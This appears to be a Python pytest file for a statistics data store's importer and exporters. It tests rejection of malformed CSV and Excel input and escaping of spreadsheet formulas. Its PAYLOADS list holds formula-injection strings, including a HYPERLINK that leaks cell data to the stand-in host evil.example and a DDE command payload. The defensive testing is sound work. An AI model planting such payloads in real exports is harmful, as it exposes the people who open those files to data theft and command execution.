"""Bad input that used to lose data or break the store: unclosed quotes, NUL and control
characters, decimal commas and foreign digits, huge numbers, formula cells without a value,
empty files, overlong notes, formula injection in exports, and Excel files that declare a
huge extent. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv as csvmod
import io
import re
import time
import tracemalloc
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from kaoping.data.cells import NumberError, escape_formula, parse_number, parse_year
from kaoping.data.exports import export_observations
from kaoping.data.importer import read_table
from kaoping.errors import DataError
from kaoping.report.xlsx import render_xlsx
from kaoping.store import Store
from tests.store import fixtures

db_url, empty_store, pg_admin, store = (
    fixtures.db_url,
    fixtures.empty_store,
    fixtures.pg_admin,
    fixtures.store,
)

HEAD = "indicator,area,year,value,unit,status,flags,source,note\n"


def csv(*lines: str) -> bytes:
    return (HEAD + "\n".join(lines) + "\n").encode("utf-8")


def errors(report) -> set[tuple[int | None, str, str]]:
    return {(p.line, p.field, p.code) for p in report.errors}


# S4: an unclosed quote ---------------------------------------------------------------------


def test_unclosed_quote_is_an_error_with_row_and_column(store: Store):
    data = csv(
        "share,city,2021,50,%,final,,yearbook,fine",
        'share,city,2022,51,%,final,,yearbook,"unclosed note',
        "share,city,2023,52,%,final,,yearbook,",
        "share,city,2024,53,%,final,,yearbook,",
        "share,city,2025,54,%,final,,yearbook,",
    )
    before = store.revisions_count()
    for dry in (True, False):
        report = store.import_file("ann", data, "obs.csv", dry_run=dry)
        assert not report.ok and not report.written
        assert errors(report) == {(3, "note", "bad-file")}
        assert "quote" in report.errors[0].message
    assert store.revisions_count() == before


def test_quote_closed_rows_later_is_an_error(store: Store):
    data = csv(
        "share,city,2021,50,%,final,,yearbook,",
        'share,city,2022,51,%,final,,yearbook,"opened here',
        "share,city,2023,52,%,final,,yearbook,",
        'share,city,2024,53,%,final,,yearbook,closed here"',
    )
    report = store.import_file("ann", data, "obs.csv", dry_run=False)
    assert not report.written and errors(report) == {(3, "note", "bad-file")}
    assert store.revisions_count() == 0


def test_a_note_over_two_lines_is_still_fine(store: Store):
    data = csv('share,city,2021,50,%,final,,yearbook,"first line\nsecond line"')
    report = store.import_file("ann", data, "obs.csv", dry_run=False)
    assert report.written, report.errors
    assert store.history("share")[0]["note"] == "first line\nsecond line"


# S7: NUL and control characters --------------------------------------------------------------


@pytest.mark.parametrize("column", ["source", "note", "indicator", "unit", "value", "area"])
def test_nul_in_any_column_is_a_row_error_in_the_dry_run(store: Store, column: str):
    row = {
        "indicator": "share",
        "area": "city",
        "year": "2021",
        "value": "50",
        "unit": "%",
        "status": "final",
        "flags": "",
        "source": "yearbook",
        "note": "",
    }
    row[column] = row[column] + "\x00x"
    data = csv(",".join(row.values()))
    dry = store.import_file("ann", data, "obs.csv", dry_run=True)
    assert not dry.ok
    assert (2, column, "bad-text") in errors(dry)
    assert any("NUL" in p.message for p in dry.errors)
    real = store.import_file("ann", data, "obs.csv", dry_run=False)  # no server error
    assert not real.written
    assert store.revisions_count() == 0


def test_control_characters_refused_but_line_breaks_and_tabs_kept(store: Store):
    report = store.import_file("ann", csv("share,city,2021,50,%,final,,year\x1bbook,"), "o.csv")
    assert errors(report) == {(2, "source", "bad-text")}
    assert "U+001B" in report.errors[0].message
    rev = store.submit("ann", "share", "city", 2021, 50, note="line one\nline two\tend")
    assert rev["note"] == "line one\nline two\tend"


def test_submit_refuses_nul_and_overlong_notes(store: Store):
    for kw, col, why in [
        ({"note": "a\x00b"}, "note", "NUL"),
        ({"source": "\x00"}, "source", "NUL"),
        # S13: the note limit of the API (4,000 characters) on every path
        ({"note": "x" * 4001}, "note", "4,000"),
    ]:
        with pytest.raises(DataError) as e:
            store.submit("ann", "share", "city", 2021, 50, **kw)
        [p] = e.value.problems
        assert p.code == "bad-text" and p.field == col and why in p.message
    assert store.revisions_count() == 0
    store.submit("ann", "share", "city", 2021, 50, note="x" * 4000)
    assert store.revisions_count() == 1


def test_import_refuses_overlong_notes(store: Store):
    report = store.import_file("ann", csv("share,city,2021,50,%,final,,," + "n" * 4001), "o.csv")
    assert errors(report) == {(2, "note", "bad-text")}
    assert not store.import_file(
        "ann", csv("share,city,2021,50,%,final,,," + "n" * 4001), "o.csv", dry_run=False
    ).written


# S12: numbers and years ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("1234", 1234.0),
        ("-0.5", -0.5),
        ("+3", 3.0),
        (".5", 0.5),
        ("77179.25", 77179.25),
        ("1,234", 1234.0),
        ("1,234,567.5", 1234567.5),
        ("1.5e3", 1500.0),
        (" 42 ", 42.0),
    ],
)
def test_numbers_accepted(text: str, value: float):
    assert parse_number(text) == value


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("30000,5", "decimal comma"),
        ("1,5", "decimal comma"),
        ("12,34", "decimal comma"),
        ("1,2345", "decimal comma"),
        ("1,23,456", "not a number"),
        ("１２３", "0-9"),
        ("٣٠", "0-9"),
        ("1e308", "too large"),
        ("1e16", "too large"),
        ("inf", "not a number"),
        ("nan", "not a number"),
        ("1_000", "not a number"),
        ("1 000", "not a number"),
        ("1.2.3", "not a number"),
        ("", "no number"),
    ],
)
def test_numbers_refused(text: str, why: str):
    with pytest.raises(NumberError, match=why):
        parse_number(text)


@pytest.mark.parametrize("text", ["２０２１", "٢٠٢١", "2_021", "21", "2021.5", "+2021"])
def test_years_are_four_ascii_digits(text: str):
    with pytest.raises(ValueError):
        parse_year(text)
    assert parse_year("2021") == 2021 and parse_year(2021.0) == 2021


def test_number_forms_in_an_import(store: Store):
    data = csv(
        'gdp,city,2021,"30000,5",yuan,,,,',  # 2 decimal comma: refused, not 300005
        "gdp,city,2022,１２３,yuan,,,,",  # 3 full-width digits
        "gdp,city,２０２３,123,yuan,,,,",  # 4 full-width year
        "gdp,city,2024,1e308,yuan,,,,",  # 5 huge
        'gdp,city,2025,"1,234.5",yuan,,,,',  # 6 fine
    )
    report = store.import_file("admin", data, "o.csv", dry_run=False)
    assert errors(report) == {
        (2, "value", "not-a-number"),
        (3, "value", "not-a-number"),
        (4, "year", "bad-year"),
        (5, "value", "not-a-number"),
    }
    assert "30000.5" in report.errors[0].message
    assert not report.written
    ok = store.import_file("admin", csv('gdp,city,2025,"1,234.5",yuan,,,,'), "o.csv", dry_run=False)
    assert ok.written and store.history("gdp")[0]["value"] == 1234.5
    with pytest.raises(DataError):
        store.submit("admin", "gdp", "city", 2021, "30000,5")
    with pytest.raises(DataError):
        store.submit("admin", "gdp", "city", 2021, 1e308)


# S11: formula cells without a value, empty files ---------------------------------------------


def _xlsx(rows: list[list]) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = "data"
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_formula_without_saved_value_is_a_row_error(store: Store):
    # openpyxl saves formulas without their values, as programs that write files often do
    data = _xlsx(
        [
            ["indicator", "area", "year", "value"],
            ["share", "city", 2021, 50],
            ["share", "city", 2022, "=B1*2"],
        ]
    )
    report = store.import_file("ann", data, "o.xlsx", dry_run=False)
    assert not report.written
    assert errors(report) == {(3, "value", "formula")}
    assert "D3" in report.errors[0].message
    assert store.revisions_count() == 0


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"", "empty.csv"),
        (b"\xef\xbb\xbf", "bom.csv"),
        (b"indicator,area,year,value\n", "header.csv"),
        (b"indicator,area,year,value\n,,,\n\n", "blank.csv"),
        (b"indicator,area,year,value\nshare,city,2021,\nshare,city,2022,\n", "unfilled.csv"),
        (_xlsx([]), "empty.xlsx"),
        (_xlsx([["indicator", "area", "year", "value"]]), "header.xlsx"),
    ],
)
def test_empty_files_are_an_error(store: Store, data: bytes, name: str):
    report = store.import_file("ann", data, name, dry_run=False)
    assert not report.ok and not report.written
    assert [p.code for p in report.errors] == ["empty-file"]
    assert store.audit(action="import") == []


# S5: formula injection in exports ------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
]


def test_exports_never_write_a_formula(store: Store):
    for year, payload in zip(range(2021, 2026), PAYLOADS, strict=True):
        store.submit("ann", "share", "city", year, 50, source=payload, note=payload)
    for h in store.history("share"):
        store.approve("rita", h["id"])
    t = store.observations()
    plan = store.plan()
    wb = load_workbook(io.BytesIO(export_observations(t, plan, "xlsx", "en")))
    texts = []
    for row in wb.active.iter_rows():
        for c in row:
            assert c.data_type != "f", c.value
            texts.append(c.value)
    assert set(PAYLOADS) <= set(texts)  # kept as text, unchanged
    blob = export_observations(t, plan, "csv", "en")
    rows = list(csvmod.DictReader(io.StringIO(blob.decode("utf-8-sig"))))
    assert {r["source"] for r in rows} == {"'" + p for p in PAYLOADS}
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    # the export imports back unchanged (the apostrophe is removed again)
    report = store.import_file("ann", blob, "export.csv")
    assert report.counts["unchanged"] == 5, report.to_dict()


def test_report_workbook_never_writes_a_formula():
    doc = {
        "title": "=1+1",
        "workbook": [
            {
                "name": "Sources",
                "columns": ["=key", "value", "source"],
                "rows": [[p, -2.5, p] for p in PAYLOADS],
            }
        ],
    }
    ws = load_workbook(io.BytesIO(render_xlsx(doc)))["Sources"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert [c.value for c in cells[3:6]] == [PAYLOADS[0], -2.5, PAYLOADS[0]]
    assert escape_formula(-2.5) == -2.5 and escape_formula("-2") == "'-2"
    assert escape_formula("\t=1") == "'\t=1" and escape_formula("\r=1") == "'\r=1"


# S2: an Excel file that declares a huge extent -----------------------------------------------


def _declared(rows: int) -> bytes:
    """A small workbook whose sheet declares ``A1:XFD<rows>`` and has cells on a few rows."""
    data = _xlsx(
        [["indicator", "area", "year", "value"], ["share", "city", 2021, 50]]
        + [[None] for _ in range(3)]
    )
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            blob = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                blob = re.sub(
                    rb'<dimension ref="[^"]+"', f'<dimension ref="A1:XFD{rows}"'.encode(), blob
                )
                blob = blob.replace(
                    b"</sheetData>",
                    f'<row r="{rows}"><c r="A{rows}" t="n"><v>1</v></c></row></sheetData>'.encode(),
                )
            z.writestr(item, blob)
    return out.getvalue()


def test_declared_extent_is_not_read():
    """A sheet declaring A1:XFD10000 (16,384 columns) cost 22 s and 1.25 GB."""
    data = _declared(10_000)
    assert len(data) < 10_000
    tracemalloc.start()
    t0 = time.perf_counter()
    rows, problems = read_table(data, "big.xlsx")
    took = time.perf_counter() - t0
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert took < 3.0, f"{took:.1f} s"
    assert peak < 30 * 2**20, f"{peak / 2**20:.0f} MB"
    assert problems == []
    assert [n for n, _ in rows] == [2, 10_000]


def test_a_row_far_down_the_sheet_costs_little():
    data = _declared(1_000_000)
    t0 = time.perf_counter()
    rows, problems = read_table(data, "far.xlsx")
    assert time.perf_counter() - t0 < 10.0
    assert problems == [] and [n for n, _ in rows] == [2, 1_000_000]
    rows, problems = read_table(_declared(1_048_576), "last.xlsx")
    assert rows == [] and "more than 1,000,000 rows" in problems[0].message


def test_template_never_writes_a_formula():
    from kaoping.data.template import department_template
    from kaoping.plan import parse_plan

    text = fixtures.PLAN.replace(
        "name: {zh: 比重, en: Share}", "name: {zh: '=比重', en: '@SUM(A1)'}"
    ).replace("definition: {zh: 某项占比, en: A share}", "definition: {zh: '+1', en: '-1+2'}")
    plan = parse_plan(text)
    wb = load_workbook(io.BytesIO(department_template(plan, "stats", [2021])))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert "=比重" in {c.value for c in cells}


def test_text_after_a_closing_quote_is_an_error_not_dropped(store: Store):
    # read leniently, "yearbook"2021 became yearbook2021 and the row was imported
    data = csv('share,city,2021,50,%,final,,"yearbook"2021,')
    report = store.import_file("ann", data, "obs.csv", dry_run=False)
    assert errors(report) == {(2, "source", "bad-file")} and not report.written


def test_every_import_error_code_is_documented():
    from pathlib import Path

    import kaoping.data.importer as importer

    docs = (Path(__file__).parents[2] / "docs" / "store.md").read_text(encoding="utf-8")
    table = set(re.findall(r"^\| `([a-z-]+)` \|", docs, re.M))
    listed = set(re.findall(r"``([a-z-]+)``", importer.__doc__ or ""))
    assert {"bad-text", "empty-file", "formula", "bad-file"} <= listed
    assert listed - {"jump", "off-track"} <= table, listed - table
